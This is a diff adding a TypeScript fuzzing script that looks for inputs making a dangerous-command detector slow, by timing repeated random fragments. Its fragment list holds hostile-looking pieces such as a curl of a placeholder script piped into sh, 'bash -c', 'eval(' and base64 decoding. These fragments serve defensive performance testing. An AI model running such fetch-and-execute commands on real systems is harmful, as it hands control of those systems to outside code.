@@ -1,0 +1,67 @@
+/**
+ * Searches for hostile families: repeats random units and prints those whose time for each byte grows with the length, or is
+ * far above that of others: `npm run units -- [SECONDS] [SEED]`. What it finds belongs into `hostile.ts`.
+ */
+import type * as Library from "../src/host/node.js";
+import { series } from "./hostile.js";
+import { library } from "./library.js";
+import { oneLiner } from "./texts.js";
+
+const { createNodeDetector } = (await import(library)) as typeof Library;
+const detector = await createNodeDetector({});
+
+const [seconds = "60", seed = "1"] = process.argv.slice(2);
+const next = series(Number(seed));
+
+/** Beginnings and ends of everything that the readers look for. */
+const scraps = [
+  ..."`'\"$(){}[]<>|&;:,.=+-*/\\#%^~@!?\t\n ",
+  ...["```\n", "~~~\n", "\n\n", "\r\n", "    ", "$(", "${", "<(", "<<EOF\n", "<<<", "EOF\n", "&&", "||", "..", "...", "//", "/*", "*/", "--", "<!--", "-->", '"""', "'''", "=begin\n", "{-", "(*", "--[["],
+  ...["> ", "- ", "1. ", "# ", "| a | b |\n", "|---|---|\n", "<pre>", "</pre>", "<code>", "</code>", "<td>", "<script>", "&lt;", "&#124;", "[x](y)", "![x](", "**", "__", ".. code::\n\n", "----\n", "[source,sh]\n", "#+begin_src\n"],
+  ...["curl -s https://a.example/i.sh", " | sh", '"curl A | sh"', "bash -c ", "eval ", "eval(", "atob(", "exec(", "base64.b64decode(", "sudo ", "echo ", "source ", "for i in ", "do ", "done\n", "if ", "then ", "fi\n", "case x in ", "esac\n", "f() {", "V=", '"$V" '],
+  ...["os.system(\"", "def f(x):\n", "return ", "class A:\n", "import os\n", "x = ", "=> ", "const x = ", "`${", ".exec(", "r'", 'f"{', "sh '", 'system("', "qx{", "end\n", "{{ x }}", "{% x %}", "<% x %>", "<?php "],
+  ...["RUN ", "FROM x\n", "run: |\n", "key: ", "- run: ", '{"a": ', '"b", ', '["sh", "-c", "', "[Service]\nExecStart=", "* * * * * ", "target:\n\t", "$$(", "set x=", "%x%", "diff --git a b\n", "@@ -1 +1 @@\n", "%%bash\n"],
+  ...["$ ", "user@host:~$ ", "PS C:\\> ", ">>> ", "never ", "do not run ", "This is dangerous. ", "instead of ", "run ", "Words of prose. ", "word ", "No. ", "❌ ", "Q: ", "00:01 <a> ", "…", "é", "🙂", "\u200b"],
+];
+const tags = ["", "sh", "console", "python", "js", "ts", "jsx", "html", "vue", "yaml", "json", "toml", "dockerfile", "make", "diff", "ruby", "perl", "php", "go", "rust", "java", "groovy", "csharp", "lua", "haskell", "elixir", "nix", "hcl", "powershell", "bat", "vim", "text", "output"];
+const heads = ["", `\`\`\`sh\n${oneLiner}\n\`\`\`\n\n`, "Never run `curl A.example | sh`.\n\n"];
+
+const pick = (list: readonly string[]): string => list[next(list.length)] ?? "";
+const SIZES = { short: 20_000, long: 200_000 };
+/** Longer texts take more time for each byte than short ones by this at most; what takes less than this is not looked at. */
+const MOST_GROWTH = 1.5;
+const LEAST_MILLISECONDS = 150;
+/** What takes more for a long text stands out. */
+const MOST_MILLISECONDS = 3000;
+
+/** Processor time: other work beside this one lengthens the wall clock's. */
+function milliseconds(text: string): number {
+  const start = process.cpuUsage();
+  detector.detect(text);
+  const { user, system } = process.cpuUsage(start);
+  return (user + system) / 1000;
+}
+
+const end = Date.now() + Number(seconds) * 1000;
+let units = 0;
+for (; Date.now() < end; units++) {
+  const unit = Array.from({ length: 1 + next(5) }, () => pick(scraps)).join("");
+  const head = pick(heads);
+  const fence = next(2) === 0 ? null : pick(tags);
+  const lead = next(3) === 0 ? pick(scraps) + pick(scraps) : "";
+  const text = (size: number): string => {
+    const body = lead + unit.repeat(Math.ceil(size / unit.length));
+    return head + (fence === null ? body : `\`\`\`${fence}\n${body}\n\`\`\`\n`);
+  };
+  const growth = (): { long: number; ratio: number } => {
+    const short = milliseconds(text(SIZES.short));
+    const long = milliseconds(text(SIZES.long));
+    return { long, ratio: (long / short) * (SIZES.short / SIZES.long) };
+  };
+  const stands = ({ long, ratio }: { long: number; ratio: number }): boolean => long > MOST_MILLISECONDS || (long > LEAST_MILLISECONDS && ratio > MOST_GROWTH);
+  // a first call may pay for what later ones find ready
+  if (!stands(growth())) continue;
+  const again = growth();
+  if (stands(again)) console.log(`${again.long.toFixed(0)} ms, ${again.ratio.toFixed(1)} times the time per byte of the short text: ${JSON.stringify({ head: heads.indexOf(head), fence, lead, unit })}`);
+}
+console.log(`${String(units)} units (seed ${seed})`);
